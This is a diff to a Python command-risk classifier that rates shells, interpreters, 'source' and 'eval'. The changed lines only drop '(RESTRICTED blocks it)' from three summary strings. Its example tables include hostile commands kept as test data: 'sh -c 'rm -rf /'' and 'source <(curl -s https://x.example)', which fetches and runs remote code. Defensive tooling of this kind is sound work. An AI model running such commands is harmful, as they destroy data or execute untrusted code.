@@ -205,19 +205,19 @@ def _shell_input_args(cmd: Cmd) -> Iterator[Hit]:
 
 
 register(*sorted(_SHELLS), family="shells", check=_shell, input_args=_shell_input_args, tags={"shell"},
-         summary="`-c STRING` judged as the string; a script file MODERATE (RESTRICTED blocks it); an interactive "
+         summary="`-c STRING` judged as the string; a script file MODERATE; an interactive "
                  "shell HIGH; a here-document or here-string judged as commands",
          benign={"bash -c 'ls -l'": Risk.SAFE, "bash build.sh": Risk.MODERATE},
          harmful={"bash": Risk.HIGH, "sh -c 'rm -rf /'": Risk.DANGEROUS})
 register(*sorted(_INTERPRETERS), family="interpreters", check=_interpreter,
          input_args=Hit(Risk.MODERATE, "runs a script or code named by its input", Trait.SCRIPT_FILE),
-         summary="a script file or module MODERATE (RESTRICTED blocks it); inline code (`python -c`, `perl -e`, "
+         summary="a script file or module MODERATE; inline code (`python -c`, `perl -e`, "
                  "`node -e`, `php -r`, `lua -e`, a here-document) HIGH; a REPL MODERATE",
          benign={"python3 --version": Risk.SAFE, "python3 manage.py test": Risk.MODERATE},
          harmful={"python3 -c 'print(1)'": Risk.HIGH, "perl -e 1": Risk.HIGH, "python3 -m pip uninstall x": Risk.HIGH})
 register("source", ".", family="shells", check=_source,
          input_args=Hit(Risk.MODERATE, "runs a script named by its input", Trait.SCRIPT_FILE),
-         summary="`source FILE`, `. FILE` MODERATE (RESTRICTED blocks it)", benign={"source": Risk.SAFE},
+         summary="`source FILE`, `. FILE` MODERATE", benign={"source": Risk.SAFE},
          harmful={"source env.sh": Risk.MODERATE, "source <(curl -s https://x.example)": Risk.DANGEROUS})
 register("eval", family="shells", check=_eval, input_args=RUNS_UNSEEN,
          summary="`eval WORDS` judged as the words; built at run time HIGH", benign={"eval ls": Risk.SAFE},
